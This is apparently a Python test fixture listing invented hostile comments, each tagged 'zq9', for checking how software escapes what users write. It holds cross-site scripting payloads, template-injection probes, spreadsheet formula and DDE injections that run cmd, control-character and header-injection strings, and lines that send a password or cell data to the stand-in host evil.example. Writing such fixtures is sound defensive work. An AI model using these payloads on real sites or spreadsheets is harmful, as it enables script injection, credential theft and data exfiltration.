"""Invented comments that attack whoever reads them: markup, formulas, templates, control characters."""

MARK = "zq9"  # in every attack, so that it is found again wherever it ends up

MARKUP = (
    f"<script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f'"><iframe src="javascript:alert(\'{MARK}\')"></iframe>',
    f"' onmouseover='alert(\"{MARK}\")' x='",
    f'" autofocus onfocus="alert(\'{MARK}\')" x="',
    f"<a href=javascript:alert('{MARK}')>click</a>",
    f"<math><mtext><style><img title='</style><img src onerror=alert(`{MARK}`)>'></style></mtext></math>",
    f"<!--><script>alert('{MARK}')</script-->",
    f"<body onload=alert('{MARK}')>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARK}'>",
    f"<form action=https://evil.example/{MARK}><input name=password>",
    f"<base href=https://evil.example/{MARK}>",
    f"<link rel=stylesheet href=https://evil.example/{MARK}>",
    f"<style>*{{background:url(https://evil.example/{MARK})}}</style>",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"\\u003cscript\\u003ealert('{MARK}')\\u003c/script\\u003e",
    f"<ScRiPt >alert('{MARK}')</sCrIpT >",
    f"<details open ontoggle=alert('{MARK}')>",
)
TEMPLATES = ("{{ 7 * 7191 }}" + MARK, "{% for x in y %}" + MARK, "${7 * 7191}" + MARK, "#{7 * 7191}" + MARK)
FORMULAS = (
    f'=HYPERLINK("https://evil.example/{MARK}","open")',
    f"=cmd|'/c calc {MARK}'!A1",
    f"+SUM(1,1)*cmd|'/c calc {MARK}'!A1",
    f"-2+3+cmd|'/c calc {MARK}'!A1",
    f"@SUM(1+1)*{MARK}",
    f"\t=1+1 {MARK}",
    f"\r=1+1 {MARK}",
    f"＝1+1 {MARK}",
    f'=IMPORTXML(CONCAT("https://evil.example/{MARK}?",A2),"//a")',
)
CONTROLS = (
    f"the line is slow \x00 {MARK}",
    f"the line is \u202eslow\u202c {MARK}",
    f"the line\x1b[31m is slow \x1b]0;{MARK}\x07",
    f"the line\r\nSet-Cookie: {MARK}=1\r\n\r\n is slow",
    f"the line is slow\u2028alert('{MARK}')",
)
EVERY = (*MARKUP, *TEMPLATES, *FORMULAS, *CONTROLS)
